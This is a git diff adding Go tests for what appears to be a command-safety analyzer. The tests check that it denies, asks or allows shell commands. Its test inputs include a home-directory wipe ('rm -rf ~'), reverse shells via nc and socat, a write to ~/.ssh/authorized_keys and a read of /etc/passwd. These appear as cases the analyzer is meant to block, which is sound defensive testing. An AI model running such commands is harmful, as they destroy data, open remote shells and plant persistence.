@@ -81,3 +81,36 @@ func TestTableExamplesDecide(t *testing.T) {
 	walk("", cmds.All())
 	assert.Greater(t, n, 100)
 }
+
+// The spellings of three classes decide like their plain form (T4): ip's
+// global options before netns exec, ssh-keygen's -f in a cluster, and
+// telnet's -e (escape character) and -c (no .telnetrc), which run nothing.
+func TestSpellingsOfClasses(t *testing.T) {
+	e := env(protocol.Policy{})
+	for _, cmd := range []string{"ip netns exec x rm -rf ~", "ip -4 netns exec x rm -rf ~", "ip -n y netns exec x rm -rf ~", "ip -all netns exec rm -rf ~"} {
+		assert.Equal(t, "floor.rm-root", Analyze(bash(cmd), e).Reasons[0].Code, cmd)
+	}
+	for _, cmd := range []string{"ssh-keygen -f ~/.ssh/authorized_keys", "ssh-keygen -qf ~/.ssh/authorized_keys", "ssh-keygen -q -t ed25519 -f ~/.ssh/authorized_keys"} {
+		v := Analyze(bash(cmd), e)
+		assert.True(t, v.HumanOnly, cmd)
+		assert.Contains(t, codes(v), "human.persistence-write", cmd)
+	}
+	for _, cmd := range []string{"telnet -e ^ example.com 23", "telnet -c example.com 23", "openssl s_client -connect example.com:443 -e x"} {
+		assert.Equal(t, protocol.DecisionAsk, Analyze(bash(cmd), e).Decision, cmd)
+	}
+	assert.Equal(t, protocol.DecisionDeny, Analyze(bash("nc -e /bin/sh example.com 23"), e).Decision)
+	assert.Equal(t, protocol.DecisionDeny, Analyze(bash("socat exec:/bin/sh tcp:example.com:23"), e).Decision)
+}
+
+// A short spelling takes its own arity (T2): uniq -Df 1 in.txt reads
+// in.txt (-D takes no value, -f takes 1) and writes nothing; sort -cu
+// keeps -u; tail -fn 5 follows x.
+func TestShortSpellingArity(t *testing.T) {
+	e := env(protocol.Policy{})
+	for _, cmd := range []string{"uniq -Df 1 README.md", "uniq -D -f 1 README.md", "sort -cu README.md", "tail -fn 5 README.md", "sort --check=quiet README.md"} {
+		assert.Equal(t, protocol.DecisionAllow, Analyze(bash(cmd), e).Decision, cmd)
+	}
+	for _, cmd := range []string{"sort -cX README.md", "tail -f/etc/passwd", "uniq -Df 1 README.md out.txt"} {
+		assert.NotEqual(t, protocol.DecisionAllow, Analyze(bash(cmd), e).Decision, cmd)
+	}
+}
